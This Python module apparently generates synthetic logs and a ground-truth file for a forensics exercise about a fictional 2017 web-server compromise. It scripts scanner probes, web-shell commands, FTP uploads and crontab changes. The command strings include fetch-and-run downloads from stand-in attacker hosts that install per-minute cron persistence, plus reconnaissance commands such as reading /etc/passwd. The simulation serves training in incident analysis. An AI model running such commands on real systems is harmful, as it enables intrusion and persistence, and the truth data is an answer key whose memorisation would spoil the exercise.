"""What the intruders did on web01, and when: scans, web-shell accesses, the downloads their
bots wrote to stderr, the FTP sessions and the crontab changes.

One plan shared by the renderers (access/error log, vsftpd/xferlog, cron) and by truth.json, so
every log tells the same story.
"""

from __future__ import annotations

import random
from dataclasses import dataclass, field
from urllib.parse import quote

from . import actors
from .timeline import (BLOCK_C_START, CRON_DELETE, CRONTAB_REMOVED, CRON_LIST, CRON_REPLACE_1, CRON_REPLACE_2,
                       FIND_START, FIRST_PROBE, FIRST_SHELL, HIDDEN_DIR, REBOOT, SERVER_STOP,
                       WGET_VTGZ, Plan, jst)

SHELL_FILES = ("/config.php", "/wp-contacts.php", "/wp-session.php")
COMMANDS = ("id", "uname -a", "pwd", "whoami", "ls -la", "ls -la /tmp", "cat /etc/passwd", "ps aux",
            "w", "df -h", "cat /proc/cpuinfo", "netstat -an", "uptime", "ls -la /var/www/html",
            "php -v", "perl -v", "cat /etc/redhat-release", "free -m", "ls -la /dev/shm",
            "find /tmp -type f", "cat config.inc.php")
PROBE_PATHS = (
    ("/phpMyAdmin/scripts/setup.php", 404), ("/phpmyadmin/index.php", 404), ("/pma/scripts/setup.php", 404),
    ("/myadmin/scripts/setup.php", 404), ("/MyAdmin/scripts/setup.php", 404), ("/mysql/admin/", 404),
    ("/wp-login.php", 404), ("/wp-admin/", 404), ("/xmlrpc.php", 404), ("/blog/wp-login.php", 404),
    ("/wordpress/wp-admin/setup-config.php", 404), ("/.env", 404), ("/cgi-bin/php", 404),
    ("/cgi-bin/test.cgi", 404), ("/cgi-bin/php5", 404), ("/manager/html", 404), ("/admin/", 404),
    ("/wp-content/plugins/revslider/temp/update_extract/revslider/db.php", 404),
    ("/struts2-showcase/index.action", 404), ("/solr/admin/info/system?wt=json", 404),
    ("/HNAP1/", 404), ("/w00tw00t.at.blackhats.romanian.anti-sec:)", 400), ("/.git/HEAD", 404),
    ("/phpunit/src/Util/PHP/eval-stdin.php", 404), ("/shell.php", 404), ("/cmd.php", 404),
    ("/.htaccess", 403), ("/db/", 404), ("/dbadmin/", 404), ("/sqlmanager/", 404),
)
DOWNLOAD_HOSTS = (("198.51.100.23", None), ("198.51.100.77", None), ("203.0.113.41", None),
                  ("bot.x-update.example", "198.51.100.140"), ("cdn.pastes.example", "203.0.113.90"),
                  (actors.DOWNLOAD_DOMAIN, actors.DOWNLOAD_ADDRESS))
DOWNLOAD_NAMES = ("x.pl", "bot.pl", ".mc.tgz", "kaiten.c", "rk.tgz", "ps.pl", "sh.txt", "m.tgz",
                  "lx.pl", "u.pl", "dc.txt", "ir.pl")
VTGZ_URL = f"http://{actors.DOWNLOAD_DOMAIN}/v.tgz"
VTGZ_LENGTH = 1841651


@dataclass
class Download:
    start: int
    end: int
    url: str
    host: str
    address: str
    name: str
    length: int
    outcome: str            # "saved", "refused", "404"


@dataclass
class ShellAccess:
    t: int
    ip: str
    block: str
    method: str
    path: str               # with the query string
    size: int
    agent: str
    effect: str | None = None           # None, "download", "curl", "perl", "find", "vtgz", "crontab"
    download: Download | None = None
    note: str = ""


@dataclass
class ProbeBurst:
    t: int
    ip: str
    agent: str
    count: int
    index: int
    paths: tuple[str, ...] = ()     # fixed paths (else drawn from PROBE_PATHS)


@dataclass
class FtpOp:
    t: int
    op: str                 # UPLOAD, DOWNLOAD, DELETE, MKDIR, RENAME
    ok: bool
    path: str
    size: int = 0
    rate: float = 0.0       # Kbyte/sec
    path2: str = ""


@dataclass
class FtpSession:
    t: int                  # CONNECT
    ip: str
    actor: str              # "A", "B", "maintenance", "guess"
    user: str
    ok: bool
    ops: list[FtpOp] = field(default_factory=list)
    attempts: int = 1       # failed logins in a guessing burst
    pid: int | None = None  # CONNECT's pid when the incident report fixes it


@dataclass
class CronChange:
    t: int
    user: str               # who ran crontab
    action: str             # LIST, DELETE, REPLACE
    target: str = "nobody"
    command: str | None = None   # the command the new crontab runs every minute


@dataclass
class AttackPlan:
    probes: list[ProbeBurst]
    shells: list[ShellAccess]
    ftp: list[FtpSession]
    cron: list[CronChange]
    finds: list[str]


def _cmd_url(path: str, cmd: str) -> str:
    return f"{path}?c={quote(cmd, safe='')}"


def _download(rng: random.Random, t: int, outcome: str) -> Download:
    host, address = rng.choice(DOWNLOAD_HOSTS[:-1])
    name = rng.choice(DOWNLOAD_NAMES)
    length = rng.randint(3_000, 420_000) if name.endswith("tgz") else rng.randint(900, 60_000)
    secs = max(0, length // rng.randint(60_000, 400_000))
    return Download(t, t + secs, f"http://{host}/{name}", host, address or host, name, length, outcome)


def make_attack(plan: Plan) -> AttackPlan:
    rng = random.Random(f"{plan.seed}:attack")
    counts = plan.counts

    # --- scanner bursts: exactly counts["probes"] failed requests ----------------------------
    total = counts["probes"]
    bursts = []
    t = FIRST_PROBE
    left = total
    span = SERVER_STOP - FIRST_PROBE - 86400
    mean = max(20, min(60, total // 30))
    i = 0
    while left > 0:
        n = min(left, max(5, int(rng.expovariate(1 / mean))))
        ip = actors.scanner(rng)
        bursts.append(ProbeBurst(t, ip, rng.choice(actors.SCANNER_AGENTS), n, i))
        left -= n
        i += 1
        t = FIRST_PROBE + rng.randrange(span)
        if REBOOT[0] - 3 * 3600 <= t <= REBOOT[1]:     # the server is down: the burst comes later
            t = REBOOT[1] + 600
    bursts.sort(key=lambda b: b.t)
    # block A looking for its shells before they existed (404s, part of the probe count)
    if bursts and bursts[-1].count > 3:
        last = bursts[-1]
        last.count -= 3
        for k, path in enumerate(SHELL_FILES):
            bursts.append(ProbeBurst(jst(2017, 7, 14, 23, 41, 8) + 5 * k, actors.A_ADDRESSES[0],
                                     actors.SHELL_AGENTS[0], 1, -1 - k, (path,)))
        bursts.sort(key=lambda b: b.t)

    # --- web-shell accesses: exactly counts["webshell"] -------------------------------------
    shells: list[ShellAccess] = []

    def add(t, ip, block, path, method="GET", effect=None, download=None, note="", size=None, agent=None):
        shells.append(ShellAccess(t, ip, block, method, path,
                                  size if size is not None else rng.randint(40, 4800),
                                  agent or rng.choice(actors.SHELL_AGENTS), effect, download, note))

    a1, a2 = actors.A_ADDRESSES
    add(FIRST_SHELL, a1, "A", _cmd_url("/wp-contacts.php", "id"), size=512, note="first execution",
        agent=actors.SHELL_AGENTS[0])
    for k, t in enumerate(CRON_LIST):
        ip = (a1, actors.B_ADDRESSES[0])[k]
        add(t - 1, ip, "AB"[k], _cmd_url("/wp-contacts.php", "crontab -l"), effect="crontab")
    add(CRON_DELETE - 1, actors.B_ADDRESSES[1], "B", _cmd_url("/wp-contacts.php", "crontab -r"), effect="crontab")
    add(CRON_REPLACE_1 - 2, a2, "A",
        _cmd_url("/wp-contacts.php", "cd /tmp;wget -q http://198.51.100.23/upd;chmod +x upd;"
                                     "echo '* * * * * /tmp/upd >/dev/null 2>&1' | crontab -"), effect="crontab")
    c_main = actors.C_ADDRESSES[0]
    add(FIND_START - 1, c_main, "C", _cmd_url("/wp-contacts.php",
                                             "find / -type d -perm -o+w"), effect="find")
    vt = Download(WGET_VTGZ[0], WGET_VTGZ[1], VTGZ_URL, actors.DOWNLOAD_DOMAIN, actors.DOWNLOAD_ADDRESS,
                  "v.tgz", VTGZ_LENGTH, "saved")
    add(WGET_VTGZ[0] - 1, c_main, "C", _cmd_url("/wp-contacts.php",
                                               f"cd {HIDDEN_DIR};wget {VTGZ_URL};tar xzf v.tgz;rm -f v.tgz"),
        effect="vtgz", download=vt)
    add(CRON_REPLACE_2 - 2, c_main, "C", _cmd_url("/wp-contacts.php", f"crontab {HIDDEN_DIR}/cron.d"),
        effect="crontab")
    special = len(shells)
    n_total = counts["webshell"]
    n_ab = max(8, round((n_total - special) * 0.25))
    n_c = n_total - special - n_ab
    busy = [(REBOOT[0] - 30, REBOOT[1] + 30), (FIND_START - 120, CRON_REPLACE_2 + 60)]

    def free_time(lo, hi):
        while True:
            t = lo + rng.randrange(hi - lo)
            if not any(a <= t <= b for a, b in busy) and t not in used_times:
                used_times.add(t)
                return t

    used_times = {s.t for s in shells}
    generic = []
    for n, lo, ips, blocks in ((n_ab, FIRST_SHELL + 60, actors.A_ADDRESSES + actors.B_ADDRESSES, "AABB"),
                               (n_c, BLOCK_C_START, actors.C_ADDRESSES, "CCCCCC")):
        done = 0
        while done < n:
            t = free_time(lo, SERVER_STOP - 300)
            k = rng.randrange(len(ips))
            ip, block = ips[k], blocks[k]
            burst = min(n - done, rng.randint(1, 6))
            for j in range(burst):
                tt = t + j * rng.randint(2, 40)
                if tt >= SERVER_STOP - 1 or any(a <= tt <= b for a, b in busy) or tt in used_times:
                    tt = free_time(lo, SERVER_STOP - 300)
                used_times.add(tt)
                r = rng.random()
                if r < 0.45:
                    path, method = _cmd_url("/wp-contacts.php", rng.choice(COMMANDS)), "GET"
                elif r < 0.75:
                    path, method = "/wp-session.php", "POST"
                else:
                    path, method = "/config.php", "GET"
                add(tt, ip, block, path, method)
                generic.append(shells[-1])
                done += 1
    shells.sort(key=lambda s: (s.t, s.ip))
    assert shells[0].t == FIRST_SHELL and len(shells) == n_total, (len(shells), n_total)

    # stderr side effects of some generic accesses: downloads, curl and perl failures
    pool = sorted((s for s in shells if s.effect is None and s.note == ""), key=lambda s: s.t)
    pick = rng.sample(range(len(pool)), min(len(pool), counts["downloads"] + counts["curl_errors"]
                                            + counts["perl_errors"]))
    for j, idx in enumerate(pick):
        s = pool[idx]
        if j < counts["downloads"]:
            outcome = rng.choices(("saved", "refused", "404"), (80, 10, 10))[0]
            d = _download(rng, s.t + 1, outcome)
            s.path, s.method, s.effect, s.download = "/config.php?u=" + quote(d.url, safe=""), "GET", "download", d
        elif j < counts["downloads"] + counts["curl_errors"]:
            s.path = _cmd_url("/wp-contacts.php", "curl -sO http://198.51.100.77/m.tgz")
            s.method, s.effect = "GET", "curl"
        else:
            s.path, s.method, s.effect = "/config.php", "GET", "perl"

    # --- find's complaints on 2017-12-25 -----------------------------------------------------
    dirs = ("/boot/grub2", "/root", "/etc/sudoers.d", "/var/lib/mysql", "/var/spool/cron",
            "/var/log/audit", "/var/lib/postfix", "/var/spool/postfix/active", "/run/user/1000",
            "/home/admin", "/etc/pki/CA/private", "/var/cache/ldconfig", "/var/lib/rsyslog",
            "/var/empty/sshd", "/var/db/sudo", "/lost+found", "/proc/1/task/1/fd", "/proc/1/fd",
            "/proc/1/map_files", "/var/lib/polkit-1", "/var/lib/nfs/statd", "/etc/audit",
            "/var/spool/at", "/etc/polkit-1/rules.d")
    finds = [f"find: '{d}': Permission denied" for d in dirs for _ in (0, 1)]
    finds = finds[:48]
    for pos, d in ((10, "/root"), (23, "/var/spool/cron"), (37, "/home/admin")):
        finds.insert(pos, f"find: '{d}': 許可がありません")

    # --- FTP -------------------------------------------------------------------------------
    ftp: list[FtpSession] = []
    b1, b2 = actors.B_ADDRESSES
    intrusions = (
        (jst(2017, 10, 20, 10, 20, 28), a1, "A", [("UPLOAD", "/htdocs/config.php", 330755, 122.12)]),
        (jst(2017, 10, 26, 22, 41, 10), b1, "B", [("UPLOAD", "/htdocs/cron.php", 1633, 31.2),
                                                  ("UPLOAD", "/htdocs/wp-cron.php", 2408, 40.9)]),
        (jst(2017, 11, 2, 3, 12, 55), a2, "A", [("MKDIR", "/htdocs/tmp", 0, 0),
                                                ("UPLOAD", "/htdocs/cron-curl.sh", 418, 8.4)]),
        (jst(2017, 11, 8, 19, 30, 2), b1, "B", [("UPLOAD", "/htdocs/drupal.sh", 1021, 17.7)]),
        (jst(2017, 11, 14, 11, 5, 47), a1, "A", [("UPLOAD", "/htdocs/wp-session.tmp", 52711, 88.6),
                                                 ("RENAME", "/htdocs/wp-session.tmp", 0, 0)]),
        (jst(2017, 11, 20, 2, 48, 19), b2, "B", [("UPLOAD", "/htdocs/wp-contacts.php", 33412, 75.3)]),
        (jst(2017, 11, 27, 16, 22, 5), a2, "A", [("UPLOAD", "/htdocs/config.php", 330755, 140.02),
                                                 ("UPLOAD", "/htdocs/wp-trans.php", 8120, 51.0)]),
        (jst(2017, 12, 2, 7, 58, 41), b1, "B", [("UPLOAD", "/htdocs/cron.php", 1633, 29.9)]),
        (jst(2017, 12, 8, 23, 17, 36), a1, "A", [("UPLOAD", "/htdocs/cron-curl.sh", 431, 9.1),
                                                 ("UPLOAD", "/htdocs/drupal.sh", 1021, 15.2)]),
        (jst(2017, 12, 12, 7, 2, 13), a2, "A", [("UPLOAD", "/htdocs/cron-curl.sh", 433, 7.7),
                                                ("DELETE", "/htdocs/tmp/.x", 0, 0)]),
        (jst(2017, 12, 18, 13, 44, 50), b2, "B", [("UPLOAD", "/htdocs/wp-session.php", 52711, 92.4),
                                                  ("UPLOAD", "/htdocs/wp-contacts.php", 33412, 80.8)]),
        (jst(2017, 12, 24, 21, 9, 30), a1, "A", [("UPLOAD", "/htdocs/config.php", 331020, 118.5),
                                                 ("FAILUPLOAD", "/htdocs/.htaccess", 0, 0)]),
        (jst(2017, 12, 29, 4, 36, 12), b1, "B", [("UPLOAD", "/htdocs/wp-cron.php", 2408, 36.6),
                                                 ("UPLOAD", "/htdocs/wp-trans.php", 8120, 47.3)]),
        (jst(2018, 1, 3, 9, 51, 27), a2, "A", [("UPLOAD", "/htdocs/config.php", 331020, 131.7)]),
    )
    for t0, ip, actor, ops in intrusions:
        s = FtpSession(t0, ip, actor, actors.FTP_USER, True)
        t = t0 + rng.randint(1, 3)
        if t0 == intrusions[0][0]:
            # the incident's own line: [pid 11806] ... OK UPLOAD ... at 10:20:44
            s.pid = 11805
            s.ops.append(FtpOp(jst(2017, 10, 20, 10, 20, 44), "UPLOAD", True, "/htdocs/config.php", 330755, 122.12))
        else:
            for op, path, size, rate in ops:
                t += rng.randint(4, 25)
                if op == "UPLOAD":
                    t += int(size / (rate * 1024))
                    s.ops.append(FtpOp(t, "UPLOAD", True, path, size, rate))
                elif op == "FAILUPLOAD":
                    s.ops.append(FtpOp(t, "UPLOAD", False, path, 0, 0.0))
                elif op == "RENAME":
                    s.ops.append(FtpOp(t, "RENAME", True, path, 0, 0.0, "/htdocs/wp-session.php"))
                else:
                    s.ops.append(FtpOp(t, op, True, path))
        ftp.append(s)
    # the maintenance company: monthly, legitimately updating reserve.php
    for month in range(1, 13):
        t0 = jst(2017, month, 9 + rng.randint(0, 5), 10 + rng.randint(0, 6), rng.randint(0, 59), rng.randint(0, 59))
        s = FtpSession(t0, actors.MAINTENANCE, "maintenance", actors.FTP_USER, True)
        t = t0 + rng.randint(5, 40)
        s.ops.append(FtpOp(t, "DOWNLOAD", True, "/htdocs/reserve.php", 18233, 512.1))
        t += rng.randint(120, 900)
        s.ops.append(FtpOp(t, "UPLOAD", True, "/htdocs/reserve.php", 18233, 498.7))
        if month % 4 == 0:
            t += rng.randint(10, 60)
            s.ops.append(FtpOp(t, "DOWNLOAD", False, "/htdocs/logs/error.log", 0, 0.0))
        ftp.append(s)
    # guessing from elsewhere
    for _ in range(counts["ftp_bruteforce_bursts"]):
        t0 = jst(2017, 1, 16) + rng.randrange(SERVER_STOP - jst(2017, 1, 16) - 3600)
        user = rng.choice((actors.FTP_USER, "admin", "ftp", "test", "www", "kyushu", "ferry", "root"))
        ftp.append(FtpSession(t0, actors.scanner(rng), "guess", user, False, attempts=rng.randint(3, 25)))
    ftp.sort(key=lambda s: s.t)

    cron = [CronChange(CRON_LIST[0], "nobody", "LIST"), CronChange(CRON_LIST[1], "nobody", "LIST"),
            CronChange(CRON_DELETE, "nobody", "DELETE"),
            CronChange(CRON_REPLACE_1, "nobody", "REPLACE", command="/tmp/upd >/dev/null 2>&1"),
            CronChange(CRON_REPLACE_2, "nobody", "REPLACE", command=f"{HIDDEN_DIR}/upd >/dev/null 2>&1"),
            # the administrator finds and removes it on 2018-01-05
            CronChange(CRONTAB_REMOVED - 95, "root", "LIST"), CronChange(CRONTAB_REMOVED, "root", "DELETE")]
    return AttackPlan(bursts, shells, ftp, cron, finds)
